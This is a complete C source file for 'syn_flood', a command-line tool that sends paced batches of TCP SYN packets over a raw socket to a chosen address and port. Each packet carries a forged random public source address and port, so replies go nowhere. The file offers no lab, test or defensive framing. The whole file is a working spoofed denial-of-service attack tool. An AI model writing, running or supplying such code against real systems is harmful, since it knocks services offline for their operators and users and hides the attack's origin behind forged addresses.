/* SYNs from everywhere, at a pace.
 *
 *   syn_flood ADDRESS PORT RATE SECONDS   send RATE SYNs a second for so long, each from an address and a port of its
 *                                         own; print how many went
 *
 * The sources are public addresses without any pattern, the same ones in every run; nobody has them, so answers are
 * lost. What could not be sent in its time is not made up for later than CATCH_UP allows: a flood is even, no shower.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 32, TTL = 60, WINDOW = 64240, BUFFER = 4 << 20, CATCH_UP = 20 * 1000 * 1000 /* nanoseconds */ };

struct syn {
    struct iphdr ip;
    struct tcphdr tcp;
};

_Static_assert(sizeof(struct syn) == 40, "as on the wire");

static void die(const char *what)
{
    fprintf(stderr, "syn_flood: %s: %s\n", what, strerror(errno));
    exit(1);
}

static uint64_t now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * 1000000000 + (uint64_t)t.tv_nsec;
}

/* => the next of a row of numbers without pattern (xorshift, Marsaglia 2003) */
static uint32_t next_random(uint32_t *state)
{
    *state ^= *state << 13;
    *state ^= *state >> 17;
    *state ^= *state << 5;
    return *state;
}

/* TCP's sum, with the pseudo-header (RFC 9293, 3.1). */
static uint16_t checksum(const struct syn *syn)
{
    const uint32_t ends[] = {syn->ip.saddr, syn->ip.daddr};
    uint16_t words[(sizeof ends + sizeof syn->tcp) / 2];
    uint32_t sum = htons(IPPROTO_TCP) + htons(sizeof syn->tcp);

    memcpy(words, ends, sizeof ends);
    memcpy((char *)words + sizeof ends, &syn->tcp, sizeof syn->tcp);
    for (size_t i = 0; i < sizeof words / sizeof *words; i++)
        sum += words[i];
    while (sum >> 16 != 0)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

/* The kernel fills in the IP header's own length, number and sum. */
static void write_syn(struct syn *syn, const struct sockaddr_in *to, uint32_t *random)
{
    uint32_t host = next_random(random), ports = next_random(random);
    *syn = (struct syn){
        .ip = {.version = 4, .ihl = 5, .ttl = TTL, .protocol = IPPROTO_TCP, .daddr = to->sin_addr.s_addr},
        .tcp = {.dest = to->sin_port, .doff = 5, .syn = 1, .window = htons(WINDOW)},
    };
    syn->ip.saddr = htonl((32 + (host >> 24) % 32) << 24 | (host & 0xffffff)); /* 32.0.0.0 to 63.255.255.255 */
    syn->tcp.source = htons((uint16_t)(1024 + ports % 60000));
    syn->tcp.seq = next_random(random);
    syn->tcp.check = checksum(syn);
}

static unsigned long flood(int fd, const struct sockaddr_in *to, uint64_t rate, double seconds)
{
    static struct syn syns[BATCH];
    static struct iovec parts[BATCH];
    static struct mmsghdr messages[BATCH];
    const uint64_t pause = BATCH * UINT64_C(1000000000) / rate;
    uint32_t random = 20260101;
    unsigned long sent = 0;

    for (size_t i = 0; i < BATCH; i++) {
        parts[i] = (struct iovec){&syns[i], sizeof syns[i]};
        messages[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
    }
    uint64_t end = now() + (uint64_t)(seconds * 1e9);
    for (uint64_t due = now(); due < end; due += pause) {
        const struct timespec until = {.tv_sec = (time_t)(due / 1000000000), .tv_nsec = (long)(due % 1000000000)};
        clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &until, NULL);
        for (size_t i = 0; i < BATCH; i++)
            write_syn(&syns[i], to, &random);
        int n = sendmmsg(fd, messages, BATCH, 0);
        if (n > 0)
            sent += (unsigned long)n;
        if (now() > due + CATCH_UP)
            due = now() - CATCH_UP;
    }
    return sent;
}

int main(int argc, char **argv)
{
    struct sockaddr_in to = {.sin_family = AF_INET};
    int size = BUFFER;
    uint64_t rate = argc == 5 ? strtoull(argv[3], NULL, 10) : 0;

    if (rate == 0 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
        fprintf(stderr, "usage: syn_flood ADDRESS PORT RATE SECONDS\n");
        return 2;
    }
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0)
        die("socket");
    setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &size, sizeof size);
    if (connect(fd, (struct sockaddr *)&to, sizeof to) < 0)
        die("connect");
    to.sin_port = htons((uint16_t)strtoul(argv[2], NULL, 10));
    printf("%lu %.6f\n", flood(fd, &to, rate, strtod(argv[4], NULL)), strtod(argv[4], NULL));
    return 0;
}
